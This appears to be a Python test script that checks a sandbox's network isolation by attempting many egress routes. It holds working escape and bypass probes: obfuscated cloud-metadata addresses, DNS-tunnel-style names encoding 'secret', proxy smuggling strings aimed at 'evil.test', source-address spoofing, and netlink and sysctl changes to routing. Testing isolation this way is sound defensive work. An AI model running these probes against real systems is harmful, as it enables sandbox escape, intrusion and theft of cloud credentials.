"""Tries to reach something in every way a program can. One line per try: NAME, a tab, and `answered …` or `no …`.

    attack-reach.py ADDRESS_OF_ANOTHER_SANDBOX PATTERN

Only the tries whose name matches PATTERN are made. The fake Internet answers everything, everywhere: only a wall says no.
"""

import concurrent.futures
import errno
import fcntl
import re
import socket
import ssl
import struct
import sys

WAIT_S = 1.5
OTHER, PATTERN = sys.argv[1], re.compile(sys.argv[2])
GATE = "198.18.0.1"


def tcp(address, port, payload=b"GET / HTTP/1.0\r\n\r\n"):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as out:
        out.settimeout(WAIT_S)
        out.connect((address, port))
        out.sendall(payload)
        return out.recv(4096) or None


def tls(address, port):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, port), WAIT_S) as out, context.wrap_socket(out) as sealed:
        return sealed.version().encode()


def udp(address, port, payload=b"hello"):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.settimeout(WAIT_S)
        out.connect((address, port))
        out.send(payload)
        return out.recv(4096)


def raw(address, protocol, kind=socket.SOCK_RAW):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    head = struct.pack("!BBHHH", 128 if ":" in address else 8, 0, 0xF7FD if ":" not in address else 0, 0, 2)
    with socket.socket(family, kind, protocol) as out:
        out.settimeout(WAIT_S)
        out.connect((address, 0))
        out.send(head)
        return out.recv(4096)


def frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as out:
        out.bind(("eth0", 0))
        out.send(b"\xff" * 6 + b"\x02\xca\x15\x50\x00\x02\x08\x00" + b"E" * 60)
        return b"sent"


def vsock(cid):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as out:
        out.settimeout(WAIT_S)
        out.connect((cid, 1024))
        return b"connected"


def family(number, kind=socket.SOCK_STREAM, protocol=0):
    socket.socket(number, kind, protocol).close()
    return b"opened"


def change(message, flags, body):
    """A request of NETLINK_ROUTE that changes something; the kernel's word is a number."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as out:
        out.settimeout(WAIT_S)
        out.send(struct.pack("=IHHII", 16 + len(body), message, 0x5 | flags, 1, 0) + body)
        reply = out.recv(65_535)
        kind = struct.unpack("=H", reply[4:6])[0]
        code = struct.unpack("=i", reply[16:20])[0] if kind == 2 else 1
        if code < 0:
            raise OSError(-code, "netlink")
        return b"changed"


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)


def interface(request, text=""):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
        fcntl.ioctl(out, request, struct.pack("16s16s", b"eth0", text.encode()))
        return b"changed"


def bound(source, transparent=None):
    """A connection from an address that is another's."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.settimeout(WAIT_S)
        if transparent is not None:
            out.setsockopt(socket.SOL_IP, transparent, 1)
        out.bind((source, 0))
        out.connect((GATE, 3128))
        return b"connected"


def write(path):
    with open(path, "w") as out:
        out.write("1")
    return b"written"


def query(name, kind, over="tcp", server=GATE):
    """The answer's addresses, or nothing for one without."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin1").split(b".") if label)
    asked = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    reply = udp(server, 53, asked) if over == "udp" else tcp(server, 53, struct.pack("!H", len(asked)) + asked)[2:]
    code, answers = reply[3] & 15, struct.unpack("!H", reply[6:8])[0]
    if answers == 0:
        raise LookupError(f"rcode {code}")
    return reply


def resolved(host):
    return repr(socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM)).encode()


PUBLIC, PUBLIC6 = "93.184.216.34", "2600:1f18::34"
METADATA = "169.254.169.254"
TRIES = {}


def attempt(name, function, *args):
    assert name not in TRIES, name
    if PATTERN.search(name):
        TRIES[name] = (function, args)


for port in (22, 25, 80, 4444, 8080):
    attempt(f"tcp {PUBLIC}:{port}", tcp, PUBLIC, port)
    attempt(f"tcp [{PUBLIC6}]:{port}", tcp, PUBLIC6, port)
for port in (123, 443, 853, 5353, 4444):
    attempt(f"udp {PUBLIC}:{port}", udp, PUBLIC, port)
    attempt(f"udp [{PUBLIC6}]:{port}", udp, PUBLIC6, port)
for address in ("224.0.0.251", "255.255.255.255", "198.19.255.255"):
    attempt(f"udp {address}:5353", udp, address, 5353)
attempt("udp 1.1.1.1:443", udp, "1.1.1.1", 443, b"\xc3\0\0\0\1" + bytes(1200))
attempt("doh 1.1.1.1:443", tls, "1.1.1.1", 443)
attempt("dot 9.9.9.9:853", tls, "9.9.9.9", 853)
attempt("tcp 198.18.0.1:853", tls, GATE, 853)
for address, number in ((PUBLIC, 1), (PUBLIC6, 58), (METADATA, 1), (GATE, 1)):
    attempt(f"ping raw {address}", raw, address, number)
    attempt(f"ping {address}", raw, address, number, socket.SOCK_DGRAM)
for number in (4, 6, 17, 41, 47, 132, 253, 255):
    attempt(f"raw {number}", raw, PUBLIC, number)
attempt("frame", frame)
for cid in (0, 1, 2, 3):
    attempt(f"vsock {cid}", vsock, cid)
for number, name in ((3, "ax25"), (9, "x25"), (29, "can"), (30, "tipc"), (31, "bluetooth"), (38, "alg"), (44, "xdp"), (43, "smc"), (21, "rds"), (15, "key")):
    attempt(f"family {name}", family, number)
    attempt(f"family {name} raw", family, number, socket.SOCK_RAW, 1)
attempt("mptcp", family, socket.AF_INET, socket.SOCK_STREAM, 262)
attempt("sctp", family, socket.AF_INET, socket.SOCK_STREAM, 132)
for name, number in (("nflog", 12), ("xfrm", 6), ("audit", 9), ("generic", 16), ("uevent", 15)):
    attempt(f"netlink {name}", family, socket.AF_NETLINK, socket.SOCK_RAW, number)

CREATE = 0x600
one = socket.inet_aton("203.0.113.9")
for index in (1, 2):
    attempt(f"route by {index}", change, 24, CREATE, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + attribute(1, one) + attribute(4, struct.pack("=I", index)))
    attempt(f"address on {index}", change, 20, CREATE, struct.pack("=BBBBI", 2, 32, 0, 0, index) + attribute(2, one))
    attempt(f"neighbour on {index}", change, 28, CREATE, struct.pack("=BBHiHBB", 2, 0, 0, index, 0x80, 0, 0) + attribute(1, one) + attribute(2, b"\2\xca\x15\x50\0\1"))
    attempt(f"link {index} moved", change, 16, 0, struct.pack("=BBHiII", 0, 0, 0, index, 0, 0) + attribute(19, struct.pack("=I", 1)))
attempt("rule", change, 32, CREATE, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0))
attempt("link dummy", change, 16, CREATE, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attribute(3, b"d0\0") + attribute(18, attribute(1, b"dummy\0")))
attempt("SIOCSIFADDR", interface, 0x8916)
attempt("SIOCSIFFLAGS", interface, 0x8914)
attempt("SIOCSIFHWADDR", interface, 0x8924)
attempt("SIOCADDRT", interface, 0x890B)
for path in ("net/ipv4/ip_forward", "net/ipv4/ip_nonlocal_bind", "net/ipv4/conf/all/route_localnet", "net/ipv6/conf/all/disable_ipv6"):
    attempt(f"sysctl {path}", write, f"/proc/sys/{path}")

for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 43, 48, 64, 65, 251, 252, 255, 257, 65280):
    attempt(f"dns type{kind}.example.test {kind}", query, f"type{kind}.example.test", kind)
for name in ("c2VjcmV0.tunnel.test", "a" * 63 + ".tunnel.test", "\1\2\3.binary.test", "10.in-addr.arpa", "localhost", "metadata.google.internal", "*.example.test"):
    attempt(f"dns {name}", query, name, 16)
attempt("dns udp", query, "udp.example.test", 1, "udp")
for server in ("9.9.9.9", "8.8.8.8", METADATA, "127.0.0.11", "127.0.0.53"):
    attempt(f"dns at {server}", query, "example.test", 1, "tcp", server)
    attempt(f"dns by udp at {server}", query, "example.test", 1, "udp", server)

for text in (METADATA, "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "025177524776", "169.254.43518", "169.16689662", "0xa9fea9fe.", METADATA + "."):
    attempt(f"metadata http://{text}", lambda text: tcp(socket.getaddrinfo(text, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0], 80), text)
for text in ("fd00:ec2::254", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "::169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::", "2001::5601:5601", "fe80::a9fe:a9fe%eth0"):
    attempt(f"metadata http://[{text}]", tcp, text, 80)
for address in ("100.100.100.200", "192.0.0.192", "168.63.129.16", "169.254.170.2", "10.0.0.1", "172.17.0.1", "192.168.0.1", "100.64.0.1", "0.0.0.0", "240.0.0.1", "81.2.69.161"):
    attempt(f"tcp {address}:80", tcp, address, 80)

for port in (1, 22, 80, 443, 15001, 9229, 65535):
    attempt(f"tcp {GATE}:{port}", tcp, GATE, port)
    attempt(f"loopback {port}", tcp, "127.0.0.1", port)
    attempt(f"udp {GATE}:{port}", udp, GATE, port)
attempt("link-local of the gate", tcp, "fe80::1%eth0", 15001)
for address in ("198.18.0.0", "198.18.0.2", "198.18.1.0", "198.18.1.1", "198.18.255.255"):
    for port in (443, 15001):
        attempt(f"stand-in {address}:{port}", tcp, address, port)
for port in (22, 80, 8000):
    attempt(f"tcp {OTHER}:{port}", tcp, OTHER, port)
attempt(f"udp {OTHER}:8000", udp, OTHER, 8000)
for source in (OTHER, GATE, "198.19.0.1"):
    attempt(f"from {source}", bound, source)
    attempt(f"from {source} transparent", bound, source, 19)
    attempt(f"from {source} freebind", bound, source, 15)


def connect_by(target, extra=""):
    """The first line of what the proxy says, when it is not that it refuses."""
    said = tcp(GATE, 3128, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{extra}\r\n".encode("latin1"))
    if said is None or b" 403 " in said[:40] or b" 400 " in said[:40]:
        raise PermissionError(errno.EACCES, "proxy")
    return said


def get_by(target):
    said = tcp(GATE, 3128, f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin1"))
    if said is None or b" 403 " in said[:40] or b" 400 " in said[:40]:
        raise PermissionError(errno.EACCES, "proxy")
    return said


def socks_by(host, kind=3, version=5, command=1):
    """SOCKS5 with this host, and the code of its reply when it is not that it refuses."""
    address = bytes([len(host)]) + host if kind == 3 else host
    with socket.create_connection((GATE, 1080), WAIT_S) as out:
        out.sendall(bytes([version, 1, 0]))
        if out.recv(2) != b"\5\0":
            raise PermissionError(errno.EACCES, "socks")
        out.sendall(bytes([5, command, 0, kind]) + address + struct.pack("!H", 443))
        said = out.recv(10)
        if said[1:2] == b"\0":
            return said
        raise PermissionError(errno.EACCES, "socks")


TRICKS = ("example.test", "EXAMPLE.test", "example.test.", "example.test..", ".example.test", "example.test\0.evil.test", "evil.test\0example.test", "user@example.test",
          "example.test@evil.test", "example.test%00.evil.test", "example.test%2eevil.test", "b\xfccher.test", "xn--bcher-kva.test", "exam\xadple.test", "127.0.0.1", "2130706433", "0x7f000001",
          "0177.0.0.1", "127.1", "169.254.169.254", "2852039166", "0xa9fea9fe", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:a9fe:a9fe]", "[fe80::1%25eth0]", "localhost", "198.18.0.1",
          "198.18.1.0", OTHER, "example.test:443:80", "example.test/..", "example.test#evil.test", "example.test?x", "ex ample.test", "example.test\tx", "-example.test", "a" * 300)
for host in TRICKS:
    attempt(f"connect {host!a}", connect_by, f"{host}:443")
    attempt(f"get {host!a}", get_by, host)
    attempt(f"socks {host!a}", socks_by, host.encode("latin1")[:255])
for port in ("0", "00443", "65536", "-1", "443x", "", "0x1bb"):
    attempt(f"connect port {port!a}", connect_by, f"example.test:{port}")
attempt("connect other Host", lambda: connect_by("evil.test:443", "Host: example.test:443\r\n"))
attempt("socks ipv4", socks_by, socket.inet_aton(METADATA), 1)
attempt("socks ipv6", socks_by, socket.inet_pton(socket.AF_INET6, "::ffff:169.254.169.254"), 4)
attempt("socks 4", socks_by, b"example.test", 3, 4)
attempt("socks bind", socks_by, b"example.test", 3, 5, 2)
attempt("socks udp associate", socks_by, b"example.test", 3, 5, 3)
for host in ("example.test", "sub.example.test", "localhost.example.test", "host.docker.internal"):
    attempt(f"name {host}", resolved, host)


def outcome(name):
    function, args = TRIES[name]
    try:
        said = function(*args)
        return "answered " + repr(said)[:200] if said is not None else "no end of file"
    except (OSError, LookupError, UnicodeError) as error:
        number = getattr(error, "errno", None)
        return f"no {errno.errorcode.get(number, type(error).__name__) if isinstance(number, int) else type(error).__name__} {error}"


with concurrent.futures.ThreadPoolExecutor(16) as pool:
    for name, said in zip(TRIES, pool.map(outcome, TRIES)):
        print(f"{name}\t{said}".replace("\n", " "), flush=True)
